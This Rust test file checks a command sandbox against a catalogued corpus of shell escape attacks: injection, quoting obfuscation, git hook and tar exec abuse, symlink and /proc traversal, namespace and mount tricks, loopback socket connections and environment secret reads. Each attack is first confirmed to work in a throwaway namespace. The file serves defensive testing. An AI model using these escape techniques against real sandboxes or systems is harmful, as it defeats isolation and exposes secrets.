//! Attacks on the sandbox, each beside its control: outside of it the same words do the harm that they
//! are meant to, so that an attack that no longer works proves nothing. No parser stands before them.
use std::io::Read as _;
use std::net::TcpListener;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use crate::sandboxed::Sandboxed;

const SECRET: &str = "canary-7d1f0b";
/// What an attack says that got where it should not.
const TOKEN: &str = "GOT-OUT";

/// (category of the corpus, words). `OUT` is a directory outside, with a secret in it, `PORT` somebody who
/// listens on loopback, `SOCKET` a socket file, `HARM` a file made outside.
#[rustfmt::skip]
const ATTACKS: &[(u32, &str)] = &[
    (1, "ls; HARM"), (1, "ls && HARM"), (1, "echo 'HARM' | sh"), (1, "ls /nothing || HARM"), (1, "( HARM; )"), (1, "{ HARM; }"), (1, "true & HARM"),
    (2, "echo $(HARM)"), (2, "echo `HARM`"), (2, "bash -c 'cat <(HARM)'"), (2, "bash -c 'echo HARM > >(sh); sleep 0.2'"), (2, "echo \"a$(echo \"$(HARM)\")\""),
    (3, "bash -c 'echo $((a[$(HARM)]))'"), (3, "bash -c 'echo $[ a[$(HARM)] ]'"), (3, "bash -c \"printf -v 'a[\\$(HARM)]' 1\""), (3, "bash -c \"let 'a[\\$(HARM)]=1'\""),
    (4, "bash -c \"x='\\$(HARM)'; echo \\${x@P}\""), (4, "x='HARM'; eval \"$x\""), (4, "echo : | PROMPT_COMMAND='HARM' bash --norc -i"),
    (5, "bash -c 'IFS=,;x=touch,OUT/canary;$x'"), (5, "bash -c \"X=\\$'touch\\\\x20OUT/canary'&&\\$X\""), (5, "touch${IFS}OUT/canary"),
    (6, "t\\ouch OUT/canary"), (6, "t''ouch OUT/canary"), (6, "\"to\"uch OUT/canary"), (6, "to\\\nuch OUT/canary"), (6, "find . -maxdepth 0 -e\\xec touch OUT/canary \\;"),
    (7, "bash -c '{touch,OUT/canary}'"), (7, "/bin/t?uch OUT/canary"), (7, "cat OUT/sec*"),
    (9, "ls #'\nHARM #'"), (9, "cat<<E\n$(HARM)\nE"), (9, "bash -c \"bash<<<'HARM'\""), (9, "cat <<A <<B\nA\n$(HARM)\nB"),
    (10, "echo HARM > x; BASH_ENV=./x bash -c :"), (10, "printf '#!/bin/sh\\nHARM\\n' > x; chmod +x x; cp x ls; PATH=.:$PATH ls"), (10, "git init -q g; cd g; printf '#!/bin/sh\\nHARM\\n' > x; chmod +x x; echo a > f; git add f; echo b > f; GIT_EXTERNAL_DIFF=./x git diff"),
    (11, "alias q='HARM'; eval q"), (11, "ls() { HARM; }; ls"), (11, "echo HARM > x; . ./x"),
    (12, "env -S'touch OUT/canary'"), (12, "env sh -c 'HARM'"), (12, "timeout 5 touch OUT/canary"), (12, "echo OUT/canary | xargs touch"), (12, "setsid touch OUT/canary; sleep 0.2"), (12, "nice touch OUT/canary"), (12, "nohup touch OUT/canary"), (12, "script -qc 'HARM' /dev/null"),
    (13, "find . -maxdepth 0 -exec touch OUT/canary \\;"), (13, "find . -maxdepth 0 -execdir touch OUT/canary \\;"), (13, "echo a > f; tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='touch OUT/canary' f"), (13, "awk 'BEGIN{system(\"HARM\")}'"), (13, "printf '#!/bin/sh\\nHARM\\ncat\\n' > p; chmod +x p; echo a > f; tar -I./p -cf a.tar f"),
    (14, "echo a > f; sed -n 'w OUT/canary' f"), (14, "echo a > f; sort -o OUT/canary f"), (14, "echo a | tee -a OUT/canary"), (14, "echo a > f; uniq f OUT/canary"), (14, "echo a > f; cp f OUT/canary"), (14, "dd if=/dev/zero of=OUT/canary bs=1 count=1"), (14, "git diff --no-index --output=OUT/canary /dev/null /etc/passwd"),
    (15, "git init -q g; cd g; git -c alias.x='!HARM' x"), (15, "printf '#!/bin/sh\\nHARM\\n' > git-x; chmod +x git-x; git --exec-path=. x"), (15, "git init -q g; git ls-remote --upload-pack='HARM;' ./g"),
    (16, "git init -q g; printf '#!/bin/sh\\nHARM\\n' > g/.git/hooks/pre-commit; chmod +x g/.git/hooks/pre-commit; cd g; git -c core.hooksPath=.git/hooks -c user.name=a -c user.email=a@example.com commit -q --allow-empty -m a"), (16, "git init -q g; cd g; git config diff.external 'HARM;'; echo a > f; git add f; echo b > f; git diff"),
    (17, "printf 'a:\\n\\tHARM\\n' > Makefile; make"),
    (18, "perl -e 'system(\"HARM\")'"), (18, "perl -e 'open F, \">OUT/canary\"'"), (18, "perl -e 'open F, \"<OUT/secret\"; print <F>'"),
    (19, "ln -s OUT k; cat k/secret"), (19, "ln -s OUT k; touch k/canary"), (19, "cat OUT/secret"), (19, "cat ../../outside/secret"), (19, "cd OUT; cat secret"), (19, "cat /proc/self/rootOUT/secret"), (19, "cat /proc/1/rootOUT/secret"), (19, "ln OUT/secret h; cat h"), (19, "ln -s /proc/1/cwd k; cat kOUT/secret; cat /proc/$PPID/rootOUT/secret"), (19, "mkdir m; mount --bind OUT m; cat m/secret"), (19, "mkdir m; unshare -rm sh -c 'mount --bind OUT m; cat m/secret'"), (19, "perl -e 'while (1) { last if $n++ > 5000; unlink \"k\"; symlink \"OUT\", \"k\"; open F, \"<k/secret\" and print <F> and last }'"), (19, "chroot OUT /bin/true; cd /; find / -maxdepth 9 -name secret -path '*outside*' -exec cat {} + 2>/dev/null"), (19, "chmod 777 OUT && touch -d 2001-01-01 OUT && echo TOKEN"), (19, "rm OUT/secret && echo SECRET > OUT/secret && echo TOKEN"),
    (20, "bash -c 'exec 3<>/dev/tcp/127.0.0.1/PORT; echo x >&3'"), (20, "perl -MIO::Socket::INET -e 'print {IO::Socket::INET->new(\"127.0.0.1:PORT\")} \"x\"'"), (20, "curl -s -m 3 -d x http://127.0.0.1:PORT"), (20, "timeout 3 git -c http.proxy= ls-remote http://127.0.0.1:PORT/x"),
    (21, "perl -MIO::Socket::INET -e 'print {IO::Socket::INET->new(PeerAddr=>\"127.0.0.1:PORT\", Blocking=>1)} \"GET / HTTP/1.1\\n\\n\"'"), (21, "curl -s -m 3 --noproxy '*' http://2130706433:PORT"), (21, "curl -s -m 3 http://0x7f.1:PORT"), (21, "curl -g -s -m 3 'http://[::ffff:127.0.0.1]:PORT'"), (21, "perl -MSocket -e 'socket(S,AF_UNIX,SOCK_STREAM,0); connect(S,pack_sockaddr_un(\"SOCKET\")) and print \"TOKEN\"'"), (21, "perl -MSocket -e 'socketpair(A,B,AF_UNIX,SOCK_DGRAM,0) and print \"TOKEN\"'"), (21, "curl -s -m 3 --unix-socket SOCKET http://x/"), (21, "perl -MSocket -e 'socket(S,AF_INET,SOCK_DGRAM,0) and print \"TOKEN\"'"), (21, "perl -e 'socket(S,16,3,0) and print \"TOKEN\"'"),
    (22, "env"), (22, "cat /proc/*/environ"), (22, "printenv | cat"), (22, "cat /proc/$PPID/environ"), (22, "ps axe"), (22, "cat OUT/secret; for f in /proc/self/fd/*; do timeout 1 cat $f < /dev/null; done"), (22, "perl -e 'print %ENV'"),
    (24, "unshare -Ur true && echo TOKEN"), (24, "unshare -n true && echo TOKEN"), (24, "mount -t tmpfs none /tmp && echo TOKEN"), (24, "mkdir m && mount --bind /etc m && echo TOKEN"), (24, "umount -l /proc && echo TOKEN"), (24, "nsenter -t $$ -m true && echo TOKEN"), (24, "hostname other && hostname | grep other && echo TOKEN"), (24, "perl -e 'syscall(425, 1, $b = \"\\0\" x 200) >= 0 and print \"TOKEN\"'"), (24, "sleep 9 & perl -e 'syscall(101, 16, 0 + $ARGV[0], 0, 0) == 0 and print \"TOKEN\"' $!"), (24, "mknod d c 1 3 2>/dev/null; chroot . true 2>/dev/null; chroot / true && echo TOKEN"), (24, "echo 1 > /proc/sys/kernel/ns_last_pid && echo TOKEN"),
    (25, "for i in 1 2 3 4 5 6 7 8 9 10; do true; done; true;true;true;true;true;true;true;true;true;HARM"), (25, "echo 'HARM' | base64 | base64 -d | sh"),
];

const REACHED: &str = "reached somebody";

struct Range {
    outside: PathBuf,
    socket: PathBuf,
    port: u16,
    reached: Arc<AtomicUsize>,
    /// How many of them an earlier attack accounts for.
    seen: AtomicUsize,
}

impl Range {
    fn around(directory: &Path) -> Self {
        let outside = directory.join("outside");
        std::fs::create_dir_all(&outside).unwrap();
        let socket = directory.join("socket");
        let files = UnixListener::bind(&socket).unwrap();
        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = tcp.local_addr().unwrap().port();
        let reached = Arc::new(AtomicUsize::new(0));
        for listener in [Listener::Tcp(tcp), Listener::Unix(files)] {
            let reached = Arc::clone(&reached);
            std::thread::spawn(move || listener.count(&reached));
        }
        Self { outside, socket, port, reached, seen: AtomicUsize::new(0) }
    }

    fn words(&self, attack: &str) -> String {
        let values = [
            ("HARM", "touch OUT/canary"),
            ("OUT", self.outside.to_str().unwrap()),
            ("SOCKET", self.socket.to_str().unwrap()),
            ("PORT", &self.port.to_string()),
            ("TOKEN", TOKEN),
            ("SECRET", SECRET),
        ];
        values.iter().fold(attack.to_owned(), |words, (name, value)| words.replace(name, value))
    }

    fn reset(&self) {
        let _ = std::fs::remove_file(self.outside.join("canary"));
        std::fs::write(self.outside.join("secret"), SECRET).unwrap();
    }

    /// Waits for whoever was reached to have noticed.
    fn comes_to_harm(&self, said: &str) -> bool {
        let before = self.seen.swap(self.reached.load(Ordering::SeqCst), Ordering::SeqCst);
        let until = Instant::now() + Duration::from_secs(3);
        loop {
            let reached = self.reached.load(Ordering::SeqCst);
            let other = self.harm(said).iter().any(|harm| *harm != REACHED);
            if other || reached > before {
                self.seen.store(reached, Ordering::SeqCst);
                return true;
            }
            if Instant::now() > until {
                return false;
            }
            std::thread::yield_now();
        }
    }

    /// What came of an attack that said this.
    fn harm(&self, said: &str) -> Vec<&'static str> {
        let mut harm = Vec::new();
        if self.outside.join("canary").exists() {
            harm.push("wrote outside");
        }
        if std::fs::read_to_string(self.outside.join("secret")).unwrap_or_default() != SECRET {
            harm.push("changed a file outside");
        }
        if said.contains(SECRET) {
            harm.push("told the secret");
        }
        if said.contains(TOKEN) {
            harm.push("says that it got out");
        }
        if self.reached.load(Ordering::SeqCst) > 0 {
            harm.push(REACHED);
        }
        harm
    }
}

enum Listener {
    Tcp(TcpListener),
    Unix(UnixListener),
}

impl Listener {
    fn count(self, reached: &AtomicUsize) {
        loop {
            let taken = match &self {
                Self::Tcp(tcp) => tcp.accept().map(|(mut stream, _)| drop(stream.read(&mut [0; 16]))),
                Self::Unix(files) => files.accept().map(|(mut stream, _)| drop(stream.read(&mut [0; 16]))),
            };
            if taken.is_err() {
                return;
            }
            reached.fetch_add(1, Ordering::SeqCst);
        }
    }
}

/// In namespaces that go away with it, and with limits: never in the process of the tests.
fn outside(directory: &Path, command: &str) -> String {
    let limited = format!("ulimit -f 200000; ulimit -v 4000000; {command}");
    let mut unshare = Command::new("unshare");
    unshare.args(["--user", "--map-root-user", "--mount", "--pid", "--uts", "--fork", "--kill-child", "--mount-proc"]);
    unshare.args(["timeout", "10", "sh", "-c", &limited]).current_dir(directory);
    unshare.env("CANARY", SECRET).env("HOME", directory).stdin(std::process::Stdio::null());
    let output = unshare.output().unwrap();
    String::from_utf8_lossy(&[output.stdout, output.stderr].concat()).into_owned()
}

fn empty(directory: &Path) {
    let _ = std::fs::remove_dir_all(directory);
    std::fs::create_dir_all(directory).unwrap();
}

#[test]
fn no_attack_of_the_corpus_gets_out_and_each_would() {
    // What is in no range below.
    attacked(&[25]);
    let tried: Vec<u32> = [&[25], SHELL, OPTIONS, CONFIGURED, FILES, NETWORK, KERNEL].concat();
    assert!(ATTACKS.iter().all(|(category, _)| tried.contains(category)));
}

const SHELL: &[u32] = &[1, 2, 3, 4, 5, 6, 7, 9];
const OPTIONS: &[u32] = &[10, 11, 12, 13, 14];
const CONFIGURED: &[u32] = &[15, 16, 17, 18];
const FILES: &[u32] = &[19];
const NETWORK: &[u32] = &[20, 21];
const KERNEL: &[u32] = &[22, 24];

#[test]
fn no_trick_of_a_shell_gets_out_and_each_would() {
    attacked(SHELL);
}

#[test]
fn no_option_or_variable_gets_out_and_each_would() {
    attacked(OPTIONS);
}

#[test]
fn no_configured_program_gets_out_and_each_would() {
    attacked(CONFIGURED);
}

#[test]
fn no_path_leads_out_and_each_would() {
    attacked(FILES);
}

#[test]
fn nobody_is_reached_and_each_would_be() {
    attacked(NETWORK);
}

#[test]
fn no_secret_is_seen_and_no_right_is_gained_and_each_would() {
    attacked(KERNEL);
}

/// All attacks of these categories.
fn attacked(categories: &[u32]) {
    let home = Sandboxed::home("[\"*\"]", "");
    let held = Range::around(&home.place.path(""));
    // Somebody else to reach, so that what comes late is not taken for the other's.
    let free = Range::around(&home.place.path("control"));
    let control = home.place.path("control/home/workspace");
    let (mut escaped, mut idle) = (Vec::new(), Vec::new());
    let served = home.serve_with("CANARY", SECRET);
    for (category, attack) in ATTACKS.iter().filter(|(category, _)| categories.contains(category)) {
        free.reset();
        empty(&control);
        let said = outside(&control, &free.words(attack));
        if !free.comes_to_harm(&said) {
            idle.push(format!("{category}: {attack}: {said}"));
        }
        held.reset();
        let told = home.run(&held.words(attack));
        let [stdout, stderr] = ["stdout", "stderr"]
            .map(|part| told[part].as_str().unwrap_or_else(|| panic!("{category}: {attack}: {told}")));
        let said = format!("{stdout}{stderr}");
        let harm = held.harm(&said);
        if !harm.is_empty() {
            escaped.push(format!("{category}: {attack}: {harm:?}: {said}"));
        }
        home.empty();
    }
    drop(served);
    assert!(escaped.is_empty(), "{}", escaped.join("\n--- "));
    assert!(idle.is_empty(), "not exercised: {}", idle.join("\n--- "));
}
